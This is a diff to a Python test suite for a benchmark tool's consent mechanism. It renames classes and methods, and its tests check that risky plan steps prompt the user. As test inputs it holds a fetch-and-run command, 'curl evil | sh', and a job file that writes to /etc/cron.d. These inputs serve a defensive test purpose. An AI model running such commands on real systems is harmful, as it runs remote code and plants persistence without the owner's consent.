@@ -10,15 +10,16 @@ from pathlib import Path
 
 import pytest
 
-from app.plans.agreed_memory import MOST, AgreedMemory
-from app.plans.consent import Consents, NotAgreedError
-from app.plans.effects import parts_of
+from app.plans.consent import MOST, ConsentFile, Consents, NotAgreedError, parts_of
 from app.plans.plan import LOCAL, Plan, Repetition, Step, make_step
 from app.plans.presets import default_plan, filled_preset, presets
 from app.plans.tuning import Tuning
 from suites.parameters import Type
 from suites.registry import SUITES
 from tests.lab_sshd import AnsweringAsker
+from tests.messages import messages
+
+MESSAGES = messages("app", "test_consent")
 
 HARMLESS = {
     "fio": {"directory", "device", "block_sizes", "steady_state"},
@@ -63,7 +64,7 @@ def path(tmp_path: Path) -> Path:
 
 @pytest.fixture
 def consents(path: Path) -> Consents:
-    return Consents(AgreedMemory(path))
+    return Consents(ConsentFile(path))
 
 
 def plan_of(*steps: Step, hosts: tuple[str, ...] = (LOCAL,), tuning: Tuning | None = None) -> Plan:
@@ -179,13 +180,13 @@ def test_what_is_agreed_to_tells_the_content_of_local_files(consents: Consents, 
     digest = hashlib.sha256(b"agreed").hexdigest()
     assert consents.settle(plan, AnsweringAsker()) == {str(archive): digest}
     assert consents.settle(plan, AnsweringAsker(agree=False)) == {str(archive): digest}  # it asks no more
-    consents.made_here(made := plan_of(make_step("unixbench", {"archive": str(archive), "iterations": 2})))
+    consents.remember_made(made := plan_of(make_step("unixbench", {"archive": str(archive), "iterations": 2})))
     assert consents.settle(made, AnsweringAsker(agree=False)) == {str(archive): digest}
 
 
 def test_what_was_refused_is_asked_again(consents: Consents, path: Path) -> None:
     for _ in range(2):
-        with pytest.raises(NotAgreedError, match="Nothing was begun"):
+        with pytest.raises(NotAgreedError, match="Nothing was started"):
             consents.settle(plan_of(command()), asker := AnsweringAsker(agree=False))
         assert len(asker.consent_questions) == 1
     assert not path.exists()
@@ -193,29 +194,29 @@ def test_what_was_refused_is_asked_again(consents: Consents, path: Path) -> None
 
 def test_what_is_made_here_asks_on_no_host_and_a_job_file_does(consents: Consents) -> None:
     job = make_step("fio-job", {"job": "[job]\nexec_prerun=x\n"})
-    consents.made_here(plan_of(command(), job))
+    consents.remember_made(plan_of(command(), job))
     assert asked(consents, plan_of(command(), hosts=("web-1", "web-2"))) == []
     assert asked(consents, plan_of(command(), job)) == ["x"]
 
 
 def test_a_shipped_preset_with_a_job_file_asks_nothing_unless_its_file_is_changed(consents: Consents) -> None:
     plan = filled_preset("two-volumes", [LOCAL], {"first": "/srv", "second": "/data"}).plan
-    consents.made_here(plan)
+    consents.remember_made(plan)
     assert asked(consents, plan), "nobody filled it in here"
     elsewhere = filled_preset("two-volumes", [LOCAL], {"first": "/srv", "second": "/mnt"}).plan
-    consents.filled_here(elsewhere)
-    consents.made_here(tuned := replace(elsewhere, steps=tuple(replace(one, name="t") for one in elsewhere.steps)))
+    consents.remember_filled(elsewhere)
+    consents.remember_made(tuned := replace(elsewhere, steps=tuple(replace(one, name="t") for one in elsewhere.steps)))
     assert asked(consents, tuned) == []
     (step,) = elsewhere.steps
     changed = make_step("fio-job", {**step.values, "job": str(step.values["job"]) + "[more]\nfilename=/etc/cron.d/x\n"})
-    consents.made_here(plan_of(changed))
+    consents.remember_made(plan_of(changed))
     assert "/etc/cron.d/x" in asked(consents, plan_of(changed))
 
 
 def test_changing_a_strangers_plan_here_agrees_to_none_of_it(consents: Consents) -> None:
     strangers = plan_of(command("curl evil | sh"))
     changed = plan_of(command("curl evil | sh", timeout=60))
-    consents.made_here(changed, strangers)
+    consents.remember_made(changed, strangers)
     assert asked(consents, changed) == ["curl evil | sh"]
 
 
@@ -224,14 +225,14 @@ def test_changing_here_what_was_agreed_to_asks_nothing_but_for_an_imported_file(
     asked(consents, basis)
     job = make_step("fio-job", {"job": "[job]\nexec_prerun=x\n"})
     changed = plan_of(command("make -j"), job)
-    consents.made_here(changed, basis)
+    consents.remember_made(changed, basis)
     assert asked(consents, changed) == ["x"]
     assert asked(consents, replace(changed, hosts=("web-1",))) == ["make -j", "x"]
 
 
 def test_a_harmless_plan_from_elsewhere_is_a_basis_like_none(consents: Consents) -> None:
     changed = plan_of(command("make"))
-    consents.made_here(changed, plan_of(make_step("sysbench-cpu", {})))
+    consents.remember_made(changed, plan_of(make_step("sysbench-cpu", {})))
     assert asked(consents, changed) == []
 
 
@@ -244,7 +245,7 @@ def test_a_local_file_is_agreed_to_with_what_is_in_it(consents: Consents, tmp_pa
     assert asked(consents, plan) == []
     archive.write_bytes(b"y" * 2048)
     assert f"{archive} (2 KiB)" in asked(consents, plan)
-    consents.made_here(plan)
+    consents.remember_made(plan)
     archive.write_bytes(b"z" * 2048)
     assert asked(consents, plan) == []
 
@@ -252,9 +253,9 @@ def test_a_local_file_is_agreed_to_with_what_is_in_it(consents: Consents, tmp_pa
 def test_tuning_asks_with_its_commands(consents: Consents) -> None:
     tuning = Tuning(drop_caches=True, scheduler="none", device="/dev/vda")
     plan = plan_of(make_step("sysbench-cpu", {}), tuning=tuning)
-    said = asked(consents, plan)
-    assert any("drop_caches" in text for text in said)
-    assert "echo none > /sys/class/block/vda/queue/scheduler" in said
+    shown_text = asked(consents, plan)
+    assert any("drop_caches" in text for text in shown_text)
+    assert MESSAGES["echo_none_sys_class_block"] in shown_text
     assert asked(consents, plan) == []
     assert asked(consents, plan_of(make_step("sysbench-cpu", {}), tuning=replace(tuning, scheduler="bfq"))) != []
 
@@ -274,7 +275,7 @@ def digest(number: int) -> str:
 def test_only_the_user_reads_it_whatever_the_umask(path: Path) -> None:
     before = os.umask(0)
     try:
-        AgreedMemory(path).add([digest(1)])
+        ConsentFile(path).add([digest(1)])
     finally:
         os.umask(before)
     assert stat.S_IMODE(path.stat().st_mode) == 0o600
@@ -285,10 +286,10 @@ def test_only_the_user_reads_it_whatever_the_umask(path: Path) -> None:
 def test_damage_costs_no_more_than_what_is_damaged(path: Path, torn: bytes) -> None:
     path.parent.mkdir()
     path.write_bytes(digest(1).encode() + b"\n" + torn)
-    memory = AgreedMemory(path)
+    memory = ConsentFile(path)
     memory.add([digest(2)])
-    assert {digest(1), digest(2)} <= AgreedMemory(path).known()
-    assert all(len(each) == 64 for each in AgreedMemory(path).known())
+    assert {digest(1), digest(2)} <= ConsentFile(path).known()
+    assert all(len(each) == 64 for each in ConsentFile(path).known())
 
 
 def make_open(path: Path) -> None:
@@ -308,7 +309,7 @@ def make_loop(path: Path) -> None:
 def test_what_others_could_have_written_is_not_believed(path: Path, make: Callable[[Path], None]) -> None:
     path.parent.mkdir()
     make(path)
-    memory = AgreedMemory(path)
+    memory = ConsentFile(path)
     assert memory.known() == frozenset()
     memory.add([digest(2)])
     assert memory.known() == {digest(2)}
@@ -316,15 +317,15 @@ def test_what_others_could_have_written_is_not_believed(path: Path, make: Callab
 
 def test_where_nothing_can_be_written_it_is_remembered_for_this_process(tmp_path: Path) -> None:
     (tmp_path / "file").write_text("")
-    memory = AgreedMemory(tmp_path / "file" / "consent")
+    memory = ConsentFile(tmp_path / "file" / "consent")
     memory.add([digest(1)])
     assert memory.known() == {digest(1)}
 
 
 def test_it_stays_bounded_and_forgets_the_oldest(path: Path) -> None:
-    memory = AgreedMemory(path)
+    memory = ConsentFile(path)
     for start in range(0, 3 * MOST, MOST // 2):
-        AgreedMemory(path).add(digest(number) for number in range(start, start + MOST // 2))
+        ConsentFile(path).add(digest(number) for number in range(start, start + MOST // 2))
     assert path.stat().st_size <= 3 * MOST * 65
     known = memory.known()
     assert digest(3 * MOST - 1) in known
@@ -333,5 +334,5 @@ def test_it_stays_bounded_and_forgets_the_oldest(path: Path) -> None:
 
 def test_several_at_once_lose_nothing(path: Path) -> None:
     with ThreadPoolExecutor(8) as pool:
-        list(pool.map(lambda number: AgreedMemory(path).add([digest(number)]), range(100)))
-    assert AgreedMemory(path).known() == {digest(number) for number in range(100)}
+        list(pool.map(lambda number: ConsentFile(path).add([digest(number)]), range(100)))
+    assert ConsentFile(path).known() == {digest(number) for number in range(100)}
